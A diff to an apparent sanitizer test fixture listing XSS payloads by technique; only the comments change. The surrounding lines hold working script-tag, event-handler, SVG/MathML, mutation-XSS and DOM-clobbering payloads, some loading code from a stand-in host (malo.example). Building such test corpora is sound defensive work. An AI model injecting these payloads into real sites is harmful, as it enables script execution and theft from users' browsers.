@@ -1,6 +1,6 @@
-/** Ways of getting a script, a style, a frame or a broken page out of an article, each of another kind. */
+/** XSS payloads, and markup that breaks out of the article, by technique. */
 export const hostileArticles: string[] = [
-  // Plain scripts, and names written otherwise.
+  // Plain scripts, and variant spellings of the tag.
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//malo.example/x.js></SCRIPT>",
   "<ScRiPt\n>alert(1)</sCrIpT\t>",
@@ -14,7 +14,7 @@ export const hostileArticles: string[] = [
   "<script>/*</script><img src=x onerror=alert(1)>*/",
   "<script type=module>import '//malo.example/x.js'</script>",
   "<script><!--<script>alert(1)</script>--></script>",
-  // Handlers on allowed and other elements.
+  // Event handlers on allowed and other elements.
   "<p onclick=alert(1)>a</p>",
   "<p/onmouseover=alert(1)//>a</p>",
   '<h2\nonfocus="alert(1)" tabindex=0 autofocus>a</h2>',
@@ -55,7 +55,7 @@ export const hostileArticles: string[] = [
   "<style>*{background:url(//malo.example)}</style>",
   "<style>@import '//malo.example/x.css';</style><p style=position:fixed;inset:0>a</p>",
   "<portal src=javascript:alert(1)></portal>",
-  // SVG and MathML, where other rules hold.
+  // SVG and MathML, which have their own parsing rules.
   "<svg onload=alert(1)>",
   "<svg/onload=alert(1)//",
   "<svg><script>alert(1)</script></svg>",
@@ -70,7 +70,7 @@ export const hostileArticles: string[] = [
   '<math href="javascript:alert(1)"><mi>a</mi></math>',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
   "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
-  // What changes when it is read a second time.
+  // Mutation XSS: markup that changes when it is parsed a second time.
   "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
   '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
   '<svg><style><img src="</style><img src=x onerror=alert(1)//">',
@@ -101,11 +101,11 @@ export const hostileArticles: string[] = [
   "<![CDATA[<script>alert(1)</script>]]><p>a",
   "</p title='><img src=x onerror=alert(1)>'>",
   "</><img src=x onerror=alert(1)>",
-  // Clobbering.
+  // DOM clobbering.
   "<form id=x><input name=attributes><input name=childNodes></form><p>a",
   "<form name=body><input name=parentNode><img name=firstChild></form>",
   "<p id=__proto__ name=constructor>a</p>",
-  // The page around it.
+  // Markup that closes or opens elements of the surrounding page.
   "</div></article></main><footer>a</footer>",
   "</p></li></ul><strong>a",
   "<p><strong><em>a",
